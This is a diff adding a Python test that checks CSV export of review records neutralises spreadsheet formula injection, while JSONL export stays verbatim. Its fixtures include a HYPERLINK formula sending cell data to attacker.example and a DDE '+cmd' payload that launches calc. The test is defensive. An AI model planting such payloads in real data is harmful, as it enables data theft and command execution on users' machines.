@@ -418,3 +418,26 @@ def test_export_filters_and_formats(migrated_store_url):
     ]
     assert parsed[0]["log_context"] == CONTEXT  # multi-line cells survive CSV quoting
     assert "".join(reviews.to_csv([])).strip() == ",".join(reviews.CSV_COLUMNS)
+
+
+def test_csv_export_neutralises_formulas_and_jsonl_stays_verbatim(migrated_store_url):
+    """Log text and reviewers' text reach spreadsheets: a cell starting with = + - @ tab or CR must not run."""
+    url = migrated_store_url
+    failure = add_failure(url, 1)
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    reviews.submit_review(
+        failure,
+        reviewer="a",
+        rating=4,
+        correction=correction(error_message=evil, reasoning="+cmd|' /C calc'!A0", suggested_actions=["@SUM(1+1)"]),
+        comment="-2+3",
+        url=url,
+    )
+    row = next(csv.DictReader(io.StringIO("".join(reviews.to_csv(reviews.iter_feedback(url=url))))))
+    assert row["correction_error_message"] == "'" + evil
+    assert row["correction_reasoning"] == "'+cmd|' /C calc'!A0"
+    assert row["comment"] == "'-2+3"
+    assert json.loads(row["correction_suggested_actions"]) == ["@SUM(1+1)"]  # a JSON list starts with "["
+    assert row["rating"] == "4"  # numbers are numbers, not text
+    exported = json.loads(next(reviews.to_jsonl(reviews.iter_feedback(url=url))))
+    assert exported["correction"]["error_message"] == evil and exported["comment"] == "-2+3"
